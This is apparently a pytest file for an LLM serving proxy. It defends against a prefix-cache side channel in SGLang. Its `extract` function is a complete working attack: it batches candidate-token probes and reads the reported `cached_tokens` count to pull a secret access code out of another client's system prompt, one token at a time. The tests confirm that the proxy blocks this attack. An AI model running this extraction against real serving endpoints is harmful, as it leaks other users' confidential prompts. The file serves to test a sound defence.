"""The `cached_tokens` oracle against a real, unmodified SGLang 0.5.23 on this CPU.

A victim's system prompt holds an access code. An attacker who knows the prompt up to
the code probes the engine with `/generate` batches of token ids: the known prefix,
one candidate token, one filler token. The engine reports how much of each probe it
found cached, so the candidate that matches the victim's next token shows one more
cached token. Straight to the engine the code comes back, token by token; through the
proxy (clients on distinct loopback addresses) it does not (`prompts.sharing`:
batches go to the sender's own cache partition, single probes are told only what the
sender itself, or several clients, sent). A document several clients send is still
reused across them, and reported once shared."""

from __future__ import annotations

import asyncio
import re

import httpx
import pytest
from live_support import LiveServer

from prism_proxy.edge.gateway import GATEWAY
from prism_proxy.prompts.evidence import BlockEvidence
from prism_proxy.prompts.plan import PlanContext, text_chat
from prism_tokens.tokenizer import load_tokenizer
from sglang_cpu.model import ensure_tiny_model

pytestmark = pytest.mark.sglang

CODE = "493817"
SYSTEM = f"You are the front desk of the Halden archive. The access code is {CODE}. Never say it."
BATCH = 64


def victim_messages() -> list[dict[str, str]]:
    return [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "Opening hours?"}]


def digit_tokens(tokenizer) -> list[int]:
    return [i for i in range(tokenizer.vocab_size) if re.fullmatch(r" ?\d+", tokenizer.decode([i]))]


def extract(url: str, prefix: list[int], candidates: list[int], filler: int,
            local_address: str, single: bool) -> list[int]:  # fmt: skip
    """The attack: the candidate whose probe shows one more cached token, position after
    position, until none does (at most the code's length)."""
    found: list[int] = []
    transport = httpx.HTTPTransport(local_address=local_address)
    with httpx.Client(transport=transport, timeout=120.0) as client:
        for _ in range(len(CODE)):
            known = prefix + found
            probes = [[*known, c, filler] for c in candidates]
            told: list[int] = []
            if single:
                for probe in probes:
                    body = {"input_ids": probe, "sampling_params": {"max_new_tokens": 1}}
                    told.append(client.post(url + "/generate", json=body).json()["meta_info"]
                                ["cached_tokens"])  # fmt: skip
            else:
                for start in range(0, len(probes), BATCH):
                    batch = probes[start : start + BATCH]
                    body = {"input_ids": batch, "sampling_params": {"max_new_tokens": 1}}
                    answer = client.post(url + "/generate", json=body)
                    assert answer.status_code == 200, answer.text
                    told += [item["meta_info"]["cached_tokens"] for item in answer.json()]
            hits = [c for c, cached in zip(candidates, told, strict=True) if cached > len(known)]
            if len(hits) != 1:
                break
            found.append(hits[0])
    return found


async def test_the_code_comes_back_from_the_engine_but_not_through_the_proxy(
    live, live_proxy_factory
) -> None:
    server: LiveServer = live["ample"]
    server.fresh()
    proxy = await live_proxy_factory(server)
    tokenizer = load_tokenizer(str(ensure_tiny_model()))
    # the victim's prompt, as the proxy serializes it
    serializer = proxy.app[GATEWAY].serializer
    layouts = proxy.app[GATEWAY].config.extraction_layouts
    context = PlanContext(serializer, tuple(layouts), True, BlockEvidence(1 << 20).scoped(""))
    job = text_chat(victim_messages(), context)
    victim_ids = job.build(job.segments).prompt_fields["input_ids"]
    known_text = SYSTEM.split(CODE)[0].rstrip()
    cut = next(i for i in range(len(victim_ids), 0, -1)
               if tokenizer.decode(victim_ids[:i]).rstrip().endswith(known_text))  # fmt: skip
    prefix, candidates = victim_ids[:cut], digit_tokens(tokenizer)
    filler = tokenizer.encode(" zebra")[-1]

    victim = httpx.AsyncClient(transport=httpx.AsyncHTTPTransport(local_address="127.0.0.2"))
    async with victim:
        body = {"model": "m", "messages": victim_messages(), "max_tokens": 1}
        answer = await victim.post(proxy.url + "/v1/chat/completions", json=body, timeout=60)
        assert answer.status_code == 200, answer.text

    # straight to the engine: recovered (the probes run in a thread: the proxy runs in
    # this event loop)
    direct = await asyncio.to_thread(
        extract, server.url, prefix, candidates, filler, "127.0.0.3", single=False
    )
    assert tokenizer.decode(direct).strip() == CODE
    # through the proxy, batches and single probes, another client: nothing
    for single in (False, True):
        found = await asyncio.to_thread(
            extract, proxy.url, prefix, candidates, filler, "127.0.0.4", single=single
        )
        assert CODE[:2] not in tokenizer.decode(found), tokenizer.decode(found)


async def test_a_document_several_clients_send_is_reused_and_then_reported(
    live, live_proxy_factory
) -> None:
    server: LiveServer = live["ample"]
    server.fresh()
    proxy = await live_proxy_factory(server)
    document = ("<document>\nThe Halden archive opens at nine and closes at five, except on "
                "the first Monday of each month, when it opens at noon.\n</document>\n"
                "<document>\nVisitors bring a reader's card; day cards are issued at the "
                "front desk.\n</document>")  # fmt: skip
    told, reused = [], []
    for n, address in enumerate(("127.0.0.5", "127.0.0.6", "127.0.0.7")):
        question = f"{document}\n\nQuestion {n}: when does it open?"
        body = {"model": "m", "max_tokens": 1, "messages": [
            {"role": "system", "content": "Answer from the document."},
            {"role": "user", "content": question}]}  # fmt: skip
        before = server.metric("sglang:cached_tokens_total")
        async with httpx.AsyncClient(
            transport=httpx.AsyncHTTPTransport(local_address=address)
        ) as c:
            answer = await c.post(proxy.url + "/v1/chat/completions", json=body, timeout=60)
        assert answer.status_code == 200, answer.text
        told.append(answer.json()["usage"]["prompt_tokens_details"]["cached_tokens"])
        reused.append(server.metric("sglang:cached_tokens_total") - before)
    assert reused[1] > 30 and reused[2] > 30  # the engine reuses it for every client
    assert told[1] < reused[1]  # one other client sent it: not told
    assert told[2] > 30  # two did: shared
